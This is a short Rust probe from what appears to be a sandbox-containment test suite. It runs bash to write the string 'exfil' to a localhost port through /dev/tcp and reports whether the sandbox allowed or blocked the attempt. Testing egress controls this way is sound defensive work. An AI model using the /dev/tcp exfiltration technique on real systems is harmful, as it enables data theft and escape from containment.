//! Reach a host listener through bash /dev/tcp.
//! Catalogue row: 19 (`research/process-tier.md` section 4).
use stockade_attacks::*;

fn main() {
    let script = format!("echo exfil > /dev/tcp/127.0.0.1/{}", arg("tcp"));
    match std::process::Command::new("/usr/bin/bash").args(["-c", &script]).status() {
        Ok(s) if s.success() => println!("ATTEMPT bash_dev_tcp ok"),
        Ok(_) => println!("ATTEMPT bash_dev_tcp EACCES"),
        Err(e) => println!("ATTEMPT bash_dev_tcp {}", errno_name(&e)),
    }
}
